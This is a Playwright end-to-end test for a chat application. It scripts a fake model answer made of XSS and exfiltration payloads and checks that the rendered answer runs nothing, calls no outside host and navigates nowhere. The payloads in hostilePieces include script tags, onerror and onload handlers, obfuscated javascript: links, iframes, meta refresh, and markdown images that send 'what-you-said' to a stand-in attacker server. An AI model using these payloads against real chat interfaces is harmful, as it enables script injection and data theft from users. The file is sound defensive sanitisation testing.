import { createServer } from 'node:http';
import type { Page } from 'playwright/test';
import { createGate } from '../tests/fake-openai/start-fake-openai.ts';
import { expect, test } from './fixtures.ts';
import { listen } from './listen.ts';
import { chatPage } from './pages/chat.ts';
import { shellOf } from './pages/shell.ts';

const attack = "globalThis.wasAttacked=true;document.title='attacked'";

/** What a model under somebody else's influence may write; `away` is a server of theirs. Pieces arrive one by one. */
function hostilePieces(away: string): string[] {
  const lines = [
    `<script>${attack}</script>`,
    `<img src="x" onerror="${attack}">`,
    `<img src="${away}/image-tag">`,
    `![secret](${away}/image?q=what-you-said)`,
    `![reference][picture]\n\n[picture]: ${away}/reference-image`,
    `![inline svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMud2FzQXR0YWNrZWQ9dHJ1ZSIvPg==)`,
    `<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>svg</text></a></svg>`,
    `<iframe srcdoc="<script>parent.wasAttacked=true</script>"></iframe>`,
    `<iframe src="${away}/frame"></iframe><object data="${away}/object"></object><embed src="${away}/embed">`,
    `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">`,
    `<form action="${away}/form"><input name="q" autofocus onfocus="${attack}"><button>Go on</button></form>`,
    `<style>@import url("${away}/style");body{background:url("${away}/background")}</style>`,
    `<link rel="stylesheet" href="${away}/sheet"><link rel="prefetch" href="${away}/prefetch">`,
    `<video poster="${away}/poster" src="${away}/video" autoplay></video><audio src="${away}/audio" autoplay></audio>`,
    `<details open ontoggle="${attack}"><summary>details</summary></details>`,
    `<!-- <script>${attack}</script> --!> <img src=x onerror=${attack}> -->`,
    `<div style="background:url(${away}/style-attribute)">styled</div>`,
    `[plain](javascript:${attack}) [mixed](JaVaScRiPt:${attack}) [data](data:text/html,<script>${attack}</script>) [vb](vbscript:x)`,
    `[encoded](&#106;avascript:${attack}) [tabbed](java&Tab;script:${attack}) <javascript:${attack}>`,
    `<a href="javascript:${attack}">anchor</a> [file](file:///etc/passwd) [blob](blob:${away}/x)`,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${attack}>"]-->B\n\`\`\``,
    `$$\\href{javascript:${attack}}{formula}$$`,
    `\`\`\`html\n<script>${attack}</script>\n\`\`\``,
  ];
  const split = ['[clicked](java', 'script', `:${attack})`, '\n\n', '<scr', `ipt>${attack}</scr`, 'ipt>', '\n\n'];
  return [...lines.map((line) => `${line}\n\n`), ...split, `Read [the manual](${away}/manual?page=1) first.\n\nThe end of it.`];
}

/** A server nobody here should ever talk to. */
async function startAway(): Promise<{ url: string; asked: string[]; close: () => void }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('away');
  });
  const port = await listen(server);
  return { url: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
}

/** Everything the page asks of the network, or shows instead of itself, from now on. */
function watch(page: Page): { requests: string[]; navigations: string[]; windows: string[] } {
  const seen = { requests: [] as string[], navigations: [] as string[], windows: [] as string[] };
  page.on('request', (request) => seen.requests.push(request.url()));
  page.on('framenavigated', (frame) => seen.navigations.push(frame.url()));
  page.context().on('page', (opened) => seen.windows.push(opened.url()));
  return seen;
}

test('what a model writes can neither run, nor call home, nor lead away', async ({ startConnected, model, host }) => {
  const away = await startAway();
  const pieces = hostilePieces(away.url);
  const gate = createGate({ afterTokens: 12 });
  model.script({ answer: { tokens: pieces, gate }, title: { text: `<img src=x onerror=${attack}>` } });
  const { page } = await startConnected();
  const chat = chatPage(page);
  const ownOrigin = new URL(page.url()).origin;
  const seen = watch(page);
  const expectUntouched = async (): Promise<void> => {
    expect(await page.evaluate('globalThis.wasAttacked')).toBeUndefined();
    expect(await page.title()).toBe('Tally');
    expect(away.asked).toEqual([]);
    expect(seen.windows).toEqual([]);
    const foreign = [...seen.requests, ...seen.navigations].filter((url) => new URL(url).origin !== ownOrigin && !url.startsWith('data:'));
    expect(foreign).toEqual([]);
    expect(page.frames()).toHaveLength(1);
    const risky = chat
      .lastAnswer()
      .locator('script, iframe, object, embed, form, input, meta, base, style, link, video, audio, img:not(.diagram > img), a[href]');
    await expect(risky).toHaveCount(0);
  };

  await chat.send(`<img src=x onerror=${attack}>`);
  await expect(chat.lastAnswer()).toContainText('<svg onload');
  await expectUntouched();
  for (let piece = 12; piece < pieces.length; piece += 1) gate.step();
  gate.open();
  const answer = await chat.answered();
  await expect(answer).toContainText('The end of it.');
  await expect(shellOf(page).conversation('<img src=x')).toBeVisible();
  await expectUntouched();
  for (const word of ['plain', 'mixed', 'data', 'encoded', 'tabbed', 'file', 'blob', 'clicked']) {
    await answer.getByText(word, { exact: true }).first().click();
    await page.keyboard.press('Escape');
  }
  await expectUntouched();

  await page.reload();
  await expect(chat.lastAnswer()).toContainText('The end of it.');
  await expectUntouched();

  await answer.getByRole('button', { name: 'the manual' }).click();
  const asked = page.getByRole('dialog', { name: 'Open a link' });
  await expect(asked).toContainText(`${away.url}/manual?page=1`);
  await expectUntouched();
  // Electron hands the address to the system's browser, which is not ours to watch.
  if (host === 'loopback') {
    const opened = page.waitForEvent('popup');
    await asked.getByRole('button', { name: /^Open 127\.0\.0\.1/ }).click();
    await (await opened).waitForLoadState();
    expect(away.asked.filter((url) => url !== '/favicon.ico')).toEqual(['/manual?page=1']);
  }
  away.close();
});
